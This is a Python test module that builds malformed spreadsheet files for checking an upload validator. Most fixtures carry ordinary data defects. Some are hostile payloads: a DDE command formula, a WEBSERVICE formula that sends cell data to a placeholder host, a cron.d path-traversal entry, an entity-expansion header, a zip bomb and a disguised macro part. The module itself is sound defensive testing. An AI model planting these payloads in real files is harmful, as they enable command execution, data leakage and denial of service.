"""Each class of section 5 of matrix.md, most of them together with a second defect."""

from __future__ import annotations

import io

import xlsxwriter

from tests.reports.matrix.corpus.bad_files import SHEET, compound, sound
from tests.reports.matrix.corpus.making import Book, Builder, edited, packed, parts_of, pct
from tests.reports.matrix.corpus2.bad_files import HEAD, row, workbook
from tests.reports.matrix.corpus2.making import bad, fill
from tests.reports.matrix.corpus5.tables import AID, ELECTION, PROCUREMENT

ROWS = (HEAD, row(1), row(2), row(3))


@bad("jj01_kosong.xlsx", "Zero bytes", "empty_file")
def empty() -> bytes:
    return b""


@bad("jj02_csv_titik_koma.csv", "CSV with semicolons", "wrong_format", or_topics=["not_a_workbook"])
def csv() -> bytes:
    return b"No;Komitmen;Ukuran Keberhasilan;Target\n1;Data terbuka;Portal;1 portal\n"


@bad("jj03_html.xlsx", "HTML saved as .xlsx", "wrong_format", or_topics=["not_a_workbook"])
def html() -> bytes:
    return b"<html><body><table><tr><td>No</td><td>Komitmen</td></tr></table></body></html>"


@bad("jj04_pdf.xlsx", "A PDF under the name", "not_a_workbook", or_topics=["wrong_format"])
def pdf() -> bytes:
    return b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + b"0" * 300


@bad("jj05_potong_tengah.xlsx", "Cut in the middle", "corrupt_file")
def cut() -> bytes:
    data = sound().data()
    return data[: len(data) // 2]


@bad("jj06_lembar_rusak.xlsx", "The sheet's XML is not well-formed", "corrupt_file")
def broken_sheet() -> bytes:
    return packed(parts_of(sound().data()) | {SHEET: b"<worksheet><sheetData><row></worksheet>"})


@bad("jj07_sandi.xlsx", "A password, under the old file's magic", "password_protected")
def password() -> bytes:
    return compound({"EncryptedPackage": bytes(4096), "EncryptionInfo": b"\x04\x00\x04\x00"})


@bad("jj08_xls.xls", "The old .xls", "wrong_format")
def old() -> bytes:
    return compound({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(600)})


@bad("jj09_makro_tanpa_nama.xlsx", "A macro part under an innocent name", "macros_not_allowed")
def macro() -> bytes:
    parts = parts_of(sound().data())
    types = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/data.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return packed(parts | {"[Content_Types].xml": types, "xl/data.bin": b"x" * 40})


@bad("jj10_jalur_naik.xlsx", "A part with .. in its path", "unsafe_archive")
def traversal() -> bytes:
    return packed(parts_of(sound().data()) | {"../../etc/cron.d/x": b"x"})


@bad("jj11_entitas.xlsx", "Entity expansion in the sheet", "unsafe_xml")
def entities() -> bytes:
    parts = parts_of(sound().data())
    bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]>'
    sheet = parts[SHEET]
    start = sheet.index(b"<worksheet")
    return packed(parts | {SHEET: bomb + sheet[start:]})


@bad("jj12_bom_zip.xlsx", "A part that unpacks to 150 MB", "decompressed_too_large", or_topics=["unsafe_archive"])
def zip_bomb() -> bytes:
    return packed(parts_of(sound().data()) | {"xl/media/image1.png": bytes(150_000_000)})


@bad("jj13_terlalu_besar.xlsx", "More than ten megabytes of file", "too_large")
def large() -> bytes:
    return sound().data() + bytes(11_000_000)


@bad("jj14_buku_kosong.xlsx", "Three sheets without a cell", "empty_workbook")
def no_cells() -> bytes:
    book = Book()
    for name in ("Sheet1", "Sheet2", "Sheet3"):
        book.sheet(name)
    return book.data()


@bad("jj15_notulen.xlsx", "Minutes and an invitation list on two sheets", "no_recognisable_header")
def minutes() -> bytes:
    book = Book()
    fill(
        book.sheet("Notulen"), "A1", ("Notulen rapat RAN OGI",), ("Waktu", "25 Oktober 2022"), ("Pembahasan", "Capaian")
    )
    fill(book.sheet("Undangan"), "A1", ("Nama", "Lembaga", "Jabatan"), ("Peserta 1", "OMS A", "Staf"))
    return book.data()


@bad("jj16_dua_kolom_persen.xlsx", "Two percent columns that disagree", "ambiguous_header")
def two_percents() -> bytes:
    return workbook(
        ("No", "Komitmen", "Ukuran Keberhasilan", "PJ", "Target", "Capaian (%)", "Persentase Capaian"),
        (1, ELECTION, "Portal", "KPU", "1 portal", 50, 60),
        (2, AID, "Kanal", "Kemensos", "1 kanal", 70, 80),
    )


@bad("jj17_hanya_judul.xlsx", "Title, two-row header, number row, total and signature, no data", "no_data_rows")
def header_only() -> bytes:
    return workbook(
        ("Matriks Target Capaian RAN OGI VII",),
        (),
        ("No", "Komitmen", "Ukuran Keberhasilan", "Target", None, "PJ"),
        (None, None, None, 2023, 2024, None),
        ("(1)", "(2)", "(3)", "(4)", "(5)", "(6)"),
        (None, None, None, None, None, None),
        ("Total",),
        (None, None, None, None, "Jakarta, 30 Juni 2024"),
    )


@bad(
    "jj18_tanpa_komitmen.xlsx",
    "A first row without commitment and a wrong percent in the second",
    "missing_required_value",
    other_topics=["percent_out_of_range"],
    error_cells=["Matriks!B2", "Matriks!F3"],
)
def no_commitment() -> bytes:
    return workbook(HEAD, row(1, title=None), row(2, percent=300), row(3))


@bad(
    "jj19_kembar_dan_status.xlsx",
    "A row twice and an unknown state",
    "duplicate_rows",
    other_topics=["unknown_status"],
    error_cells=["Matriks!G4"],
)
def twins() -> bytes:
    return workbook(HEAD, row(1), row(2), row(3, status="aman"), row(1))


@bad(
    "jj20_nomor_bentrok.xlsx",
    "Commitment 2 under two titles, a wrong year beside it",
    "conflicting_commitment",
    other_topics=["invalid_year"],
    error_cells=["Matriks!E4"],
)
def conflict() -> bytes:
    return workbook(
        ("No Komitmen", "Komitmen", "Ukuran Keberhasilan", "PJ", "Tahun", "Target"),
        (1, ELECTION, "Portal", "KPU", 2023, "1 portal"),
        (2, PROCUREMENT, "Dashboard", "LKPP", 2023, "1 dashboard"),
        (3, AID, "Kanal", "Kemensos", 2202, "1 kanal"),
        (2, "Perluasan akses bantuan hukum dan keadilan", "Standar", "BPHN", 2023, "1 standar"),
    )


@bad(
    "jj21_tanggal_dan_status.xlsx",
    "31 Februari, besok, 13/13/2024 and an unknown state in one row",
    "invalid_date",
    other_topics=["unknown_status"],
    error_cells=["Matriks!H2", "Matriks!H3", "Matriks!H4", "Matriks!G2"],
)
def dates() -> bytes:
    return workbook(
        HEAD,
        row(1, due="31 Februari 2024", status="merah"),
        row(2, due="besok"),
        row(3, due="13/13/2024"),
        row(4),
    )


@bad(
    "jj22_persen_semua.xlsx",
    "201%, -1, 2.5 as a format, words, 0,5 without a sign",
    "percent_out_of_range",
    other_topics=["invalid_percent", "ambiguous_percent"],
    error_cells=[f"Matriks!F{n}" for n in range(2, 7)],
)
def percents() -> bytes:
    return workbook(
        HEAD,
        row(1, percent="201%"),
        row(2, percent=-1),
        row(3, percent=pct(2.5)),
        row(4, percent="seratus lima"),
        row(5, percent="0,5"),
        row(6, percent="100%"),
    )


@bad(
    "jj23_galat.xlsx",
    "#N/A, #VALUE! in cells that are read",
    "error_value_in_cell",
    error_cells=["Matriks!E2", "Matriks!F3", "Matriks!B4"],
)
def errors() -> bytes:
    book = Book()
    sheet = book.sheet("Matriks")
    fill(sheet, "A1", *ROWS)
    for place, value in (("E2", "#N/A"), ("F3", "#VALUE!"), ("B4", "#REF!")):
        cell = sheet.worksheet[place]
        cell.value, cell.data_type = value, "e"
    return book.data()


@bad("jj24_sel_panjang.xlsx", "32,768 characters", "cell_too_long", error_cells=["Matriks!E3"])
def long_cell() -> bytes:
    return edited(workbook(HEAD, row(1), row(2, target="isi panjang"), row(3)), SHEET, ("isi panjang", "x" * 32_768))


@bad("jj25_kendali.xlsx", "BEL and vertical control in a title cell", "control_characters", error_cells=["Matriks!B3"])
def control() -> bytes:
    return edited(
        workbook(HEAD, row(1), row(2, title="Judul kendali"), row(3)), SHEET, ("Judul kendali", "Judul_x0007_ _x0001_")
    )


def _with(*formulas: tuple[str, str, object]) -> bytes:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        sheet = book.add_worksheet("Matriks")
        for number, values in enumerate(ROWS):
            sheet.write_row(number, 0, values)
        for cell, formula, value in formulas:
            sheet.write_formula(cell, formula, None, value)
    return stream.getvalue()


@bad("jj26_dde.xlsx", "DDE", "formula_injection", error_cells=["Matriks!E2"])
def exchange() -> bytes:
    return _with(("E2", "=cmd|'/c calc'!A1", "x"))


@bad(
    "jj27_luar.xlsx",
    "HYPERLINK to the web, WEBSERVICE and another workbook",
    "formula_injection",
    error_cells=["Matriks!E3", "Matriks!E4"],
)
def calls_out() -> bytes:
    return _with(("E3", '=_xlfn.WEBSERVICE("http://contoh.test/?"&A1)', "x"), ("E4", "='[Lain.xlsx]Sheet1'!$A$1", "x"))


@bad(
    "jj28_rumus_kosong.xlsx",
    "Formulas without a result in percent and target, and an unknown state",
    "formula_without_value",
    other_topics=["unknown_status"],
    error_cells=["Matriks!F2", "Matriks!E3", "Matriks!G4"],
)
def uncalculated() -> bytes:
    book = Book()
    sheet = book.sheet("Matriks")
    fill(sheet, "A1", HEAD, row(1), row(2), row(3, status="beres gan"))
    sheet.worksheet["F2"] = "=10*5"
    sheet.worksheet["E3"] = '=A3&" data"'
    return book.data()


@bad(
    "jj29_dua_lembar.xlsx",
    "One sound sheet and one with a wrong percent and a wrong day; wide years",
    "percent_out_of_range",
    other_topics=["invalid_date"],
    error_cells=["LKPP!F2", "LKPP!H2"],
)
def second_sheet() -> bytes:
    book = Book()
    fill(book.sheet("KPU"), "A1", *ROWS)
    fill(book.sheet("LKPP"), "A1", HEAD, row(4, percent="1000%", due="0/0/2024"), row(5))
    return book.data()


@bad(
    "jj30_bagian_dan_gabung.xlsx",
    "Section rows and merged agencies: a wrong percent and state below them",
    "percent_out_of_range",
    other_topics=["unknown_status"],
    error_cells=["Laporan!E5", "Laporan!F7"],
)
def below_sections() -> bytes:
    book = Book()
    sheet = book.sheet("Laporan")
    fill(
        sheet,
        "A1",
        ("No", "Rencana Aksi", "Instansi Pelaksana", "Target", "Capaian (%)", "Status"),
        (f"Komitmen 1. {ELECTION}",),
        (1, "Portal", "KPU", "1 portal", 50, "Proses"),
        (f"Komitmen 2. {PROCUREMENT}",),
        (1, "Dashboard", "LKPP", "1 dashboard", 250, "Proses"),
        (f"Komitmen 3. {AID}",),
        (1, "Kanal", "Kemensos", "1 kanal", 50, "mantap"),
    )
    sheet.merge("A2:F2", "A4:F4", "A6:F6")
    return book.data()


@bad("jj31_strict.xlsx", "Strict Open XML", "wrong_format")
def strict() -> bytes:
    parts = parts_of(sound().data())
    return packed(
        {
            name: content.replace(
                b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                b"http://purl.oclc.org/ooxml/spreadsheetml/main",
            )
            for name, content in parts.items()
        }
    )


@bad(
    "jj32_tahun.xlsx",
    "Years 20222, 1022 and dua ribu",
    "invalid_year",
    error_cells=[f"Matriks!E{n}" for n in (2, 3, 4)],
)
def years() -> bytes:
    return workbook(
        ("No", "Komitmen", "Ukuran Keberhasilan", "PJ", "Tahun", "Target"),
        (1, ELECTION, "Portal", "KPU", 20222, "1 portal"),
        (2, PROCUREMENT, "Dashboard", "LKPP", 1022, "1 dashboard"),
        (3, AID, "Kanal", "Kemensos", "dua ribu", "1 kanal"),
        (4, "Data terbuka", "Kamus", "BPS", "2023", "1 kamus"),
    )


BUILDERS: list[Builder] = [
    empty,
    csv,
    html,
    pdf,
    cut,
    broken_sheet,
    password,
    old,
    macro,
    traversal,
    entities,
    zip_bomb,
    large,
    no_cells,
    minutes,
    two_percents,
    header_only,
    no_commitment,
    twins,
    conflict,
    dates,
    percents,
    errors,
    long_cell,
    control,
    exchange,
    calls_out,
    uncalculated,
    second_sheet,
    below_sections,
    strict,
    years,
]
